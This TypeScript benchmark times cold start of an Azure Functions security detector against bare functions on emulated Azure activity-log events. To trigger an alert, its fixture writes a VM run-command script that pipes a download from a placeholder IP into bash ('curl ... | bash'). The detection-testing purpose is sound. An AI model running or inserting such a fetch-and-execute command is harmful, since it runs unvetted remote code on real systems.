import { build } from 'esbuild'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startFunctionsHost } from '../../emulators/functions-host'
import { activityLogRecord, message, uuid, vmId } from '../../support/azure-events'
import { startAzureWorld, type AzureWorld } from '../../support/azure-world'

const repository = join(__dirname, '..', '..', '..')

const median = (values: readonly number[]): number => values.toSorted((a, b) => a - b)[values.length >> 1] ?? Number.NaN

export interface ColdStartFigures {
  readonly appMs: number
  /** A bare function in the app's own bundle. */
  readonly bareMs: number
  readonly ratio: number
  /** A bare function in a bundle of the clients alone. */
  readonly clientsMs: number
  readonly ratioToClients: number
}

/** Bundles the bare function the way scripts/build.mjs bundles the app. */
const bundleBare = async (folder: string, modules: readonly string[]): Promise<string> => {
  const outfile = join(folder, 'index.js')
  await build({
    stdin: { contents: modules.map((module) => `import ${JSON.stringify(module)}`).join('\n'), resolveDir: repository },
    absWorkingDir: repository,
    outfile,
    bundle: true,
    platform: 'node',
    target: 'node22',
    format: 'cjs',
    mainFields: ['module', 'main'],
    minify: true,
    legalComments: 'none',
    logLevel: 'error',
    alias: { '@aws-sdk/credential-provider-node': './functions/azure/sns/no-default-credentials.ts' },
    banner: { js: "const importMetaUrl = require('node:url').pathToFileURL(__filename).href;" },
    define: { 'import.meta.url': 'importMetaUrl' },
    external: ['@azure/functions-core'],
  })
  return outfile
}

/** Calls to the services so far, by operation. */
const callsOf = ({ faults }: AzureWorld): Readonly<Record<string, number>> =>
  Object.fromEntries(
    [faults.tables, faults.blobs, faults.sns].flatMap((plan) =>
      Object.entries(plan.counts()).map(([operation, { calls }]) => [operation, calls]),
    ),
  )

/** What one side called more than before; both sides must call the same, or the comparison says nothing. */
const callsSince = (world: AzureWorld, before: Readonly<Record<string, number>>): string =>
  Object.entries(callsOf(world))
    .map(([operation, calls]) => `${operation} ${calls - (before[operation] ?? 0)}`)
    .toSorted()
    .join(', ')

/** Milliseconds from the start of an instance's process to the end of its first invocation. */
const firstAlert = async (world: AzureWorld, entry: string, name: string, number: number): Promise<number> => {
  const resourceId = `${vmId(`vm-${number}`)}/runCommands/update`
  world.arm.resources.set(resourceId.toLowerCase(), {
    properties: { source: { script: 'curl -s http://203.0.113.9/setup.sh | bash' } },
  })
  const record = activityLogRecord({
    operation: 'Microsoft.Compute/virtualMachines/runCommands/write',
    resourceId,
    person: number,
    user: `user${number}@example.com`,
    correlationId: uuid(number),
  })
  const begun = performance.now()
  const host = await startFunctionsHost({ entry, env: { ...world.settings, BARE_RESOURCE: resourceId } })
  const result = await host.invokeEventHub(name, [message(record)], { maxRetryCount: 5 })
  const elapsed = performance.now() - begun
  await host.stop()
  if (!result.ok) throw new Error(result.error.stack)
  return elapsed
}

/**
 * Start and first alert of the app, over those of a bare function that makes the same calls: in the same bundle, which
 * shows what the detector does, and in a bundle without the detector, which shows what it weighs as well; in turns.
 */
export const measureColdStart = async (turns: number): Promise<ColdStartFigures> => {
  const folders = ['bare-', 'clients-'].map((prefix) => mkdtempSync(join(tmpdir(), prefix))) as [string, string]
  const world = await startAzureWorld({ RUNWARDEN_DIGEST_TOPIC_ARN: '' })
  try {
    const entries = {
      app: join(repository, 'dist', 'azure', 'index.js'),
      bare: await bundleBare(folders[0], ['./functions/azure/handler', './test/bench/azure/bare-function']),
      clients: await bundleBare(folders[1], ['./test/bench/azure/bare-function']),
    }
    const [app, bare, clients]: [number[], number[], number[]] = [[], [], []]
    for (let turn = 0; turn <= turns; turn++) {
      const atStart = callsOf(world)
      const bareMs = await firstAlert(world, entries.bare, 'bare', 10_000 + turn)
      const [bareCalls, between] = [callsSince(world, atStart), callsOf(world)]
      const appMs = await firstAlert(world, entries.app, 'activityLog', 20_000 + turn)
      const appCalls = callsSince(world, between)
      if (turn > 0 && appCalls !== bareCalls)
        throw new Error(`the sides do not make the same calls: the app ${appCalls}; the bare function ${bareCalls}`)
      const clientsMs = await firstAlert(world, entries.clients, 'bare', 30_000 + turn)
      // The first turn fills the caches of the machine.
      if (turn === 0) continue
      bare.push(bareMs)
      app.push(appMs)
      clients.push(clientsMs)
    }
    const over = (others: readonly number[]): number => median(app.map((ms, turn) => ms / (others[turn] ?? Number.NaN)))
    return {
      appMs: median(app),
      bareMs: median(bare),
      ratio: over(bare),
      clientsMs: median(clients),
      ratioToClients: over(clients),
    }
  } finally {
    await world.stop()
    for (const folder of folders) rmSync(folder, { recursive: true })
  }
}
